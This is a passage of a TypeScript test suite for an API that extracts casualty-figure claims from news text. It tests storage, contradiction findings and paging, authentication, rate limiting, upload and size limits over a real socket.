      for (const c of linked) expect(c.incidentId).toMatch(/^inc_/)
      const detail = (await (await real.request(`/api/incidents/${linked[0].incidentId}`)).json()) as Json
      expect(detail.claims.map((c: Json) => c.id)).toContain(linked[0].id)
      expect(detail.incident.figures.length).toBeGreaterThan(0)
      const listed = await real.request(`/api/claims?sourceId=${posted.source.id}&limit=500`)
      expect(new Set(posted.claims.map((c: Json) => c.id)).size).toBe(posted.claims.length)
      expect(((await listed.json()) as Json).total).toBe(posted.claims.length)
      // The write scheduled a consistency check in the background: its contradiction shows up in /api/findings.
      await refresher.settled()
      const findings = (await (await real.request('/api/findings')).json()) as Json
      const contradiction = findings.items.find((f: Json) => f.kind === 'contradiction')
      expect(contradiction).toBeDefined()
      expect(contradiction.claims.every((id: string) => posted.claims.some((c: Json) => c.id === id) || id.startsWith('clm_'))).toBe(true)
      expect(findings.claims).toBeUndefined()
      // With include=claims, one answer carries every claim the page's findings name, once each, with its source.
      const withClaims = (await (await real.request('/api/findings?include=claims&limit=500')).json()) as Json
      const named = [...new Set((withClaims.items as Json[]).flatMap((f: Json) => f.claims as string[]))]
      expect((withClaims.claims as Json[]).map((c: Json) => c.id).sort()).toEqual(named.sort())
      const shown = (withClaims.claims as Json[]).find((c: Json) => c.id === contradiction.claims[0])!
      expect(shown).toMatchObject({ id: contradiction.claims[0], source: { id: shown.sourceId, sha256: expect.any(String) } })
      expect(shown.source.text).toBeUndefined()
      // Paging: the second page of one finding each is the next finding.
      const second = (await (await real.request('/api/findings?include=claims&limit=1&offset=1')).json()) as Json
      expect((second.items as Json[]).map((f: Json) => f.id)).toEqual((withClaims.items as Json[]).slice(1, 2).map((f: Json) => f.id))
      expect((second.claims as Json[]).map((c: Json) => c.id).sort()).toEqual([...new Set((second.items as Json[]).flatMap((f: Json) => f.claims as string[]))].sort())
    })

    // Two figures read from one quote span ("18 labourers … a grandmother") must both be stored (claimKey holds the figure).
    it('stores every claim the acceptance file lists for the seed article', async () => {
      const { posted } = await postSeed(createApp(store, seedConfig, apiDeps(documentUseCases()), { log: () => {} }))
      for (const e of seedExpected.claims) expect(posted.claims.some((c: Json) => matchesExpected(c as ClaimLike, e)), e.quote_contains).toBe(true)
    })

    it('extracts without storing', async () => {
      const before = await store.sources.count()
      const r = await call('POST', '/api/extract', { json: { text: 'The strike killed 12 people.', published: '2013-01-01' } })
      expect(r.status).toBe(200)
      expect(r.json.claims.map((c: Json) => c.min)).toEqual([12])
      expect(await store.sources.count()).toBe(before)
    })

    it('keeps reads private when configured, and limits the request rate', async () => {
      const priv = createApp(store, loadConfig({ RECKON_PRIVATE: '1' }), testDeps(), { log: () => {} })
      expect((await priv.request('/api/incidents')).status).toBe(401)
      expect((await priv.request('/api/incidents', { headers: { authorization: `Bearer ${tokens.viewer}` } })).status).toBe(200)
      expect((await priv.request('/api/health')).status).toBe(200)
      const limited = createApp(store, loadConfig({ RECKON_RATE_LIMIT: '2' }), testDeps(), { log: () => {} })
      const statuses = []
      for (let i = 0; i < 3; i++) statuses.push((await limited.request('/api/health')).status)
      expect(statuses).toEqual([200, 200, 429])
      const refused = await limited.request('/api/health')
      expect(refused.headers.get('retry-after')).toMatch(/^\d+$/)
      expect(((await refused.json()) as Json).error.code).toBe('rate_limited')
      // A token has its own bucket, apart from the anonymous caller's address.
      expect((await limited.request('/api/health', { headers: { authorization: `Bearer ${tokens.viewer}` } })).status).toBe(200)
    })

    it('serves the same API over a real socket', async () => {
      const server = await startServer(app, '127.0.0.1', 0)
      try {
        const health = await fetch(`${server.url}/api/health`)
        expect(health.status).toBe(200)
        const anon = await fetch(`${server.url}/api/sources`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(article(1)) })
        expect(anon.status).toBe(401)
        const viewer = await fetch(`${server.url}/api/sources`, { method: 'POST', headers: { 'content-type': 'application/json', authorization: `Bearer ${tokens.viewer}` }, body: JSON.stringify(article(1)) })
        expect(viewer.status).toBe(403)
        const form = new FormData()
        form.set('file', new File([`Socket ${name}: the strike killed 13 people.`], 'wire.txt', { type: 'text/plain' }))
        const posted = await fetch(`${server.url}/api/sources`, { method: 'POST', headers: { authorization: `Bearer ${tokens.editor}` }, body: form })
        expect(posted.status).toBe(201)
        const body = (await posted.json()) as Json
        expect(body.claims.map((c: Json) => c.min)).toEqual([13])
        const huge = await fetch(`${server.url}/api/extract`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ text: 'z'.repeat(30_000) }) })
        expect(huge.status).toBe(413)
        const csv = await fetch(`${server.url}/api/export/claims.csv?sourceId=${body.source.id}`)
        expect(parseCsv(await csv.text())).toHaveLength(2)
        // Headers over Node's limit are refused by Node itself, still in the API's JSON error shape.
        const oversized = await fetch(`${server.url}/api/health`, { headers: { 'x-padding': 'p'.repeat(20_000) } })
        expect(oversized.status).toBe(431)
        expect(await oversized.json()).toMatchObject({ error: { code: 'too_large', message: expect.any(String) } })
        expect((await fetch(`${server.url}/api/health`)).status).toBe(200)
      } finally {
        await server.close()
      }
    })
  })
}
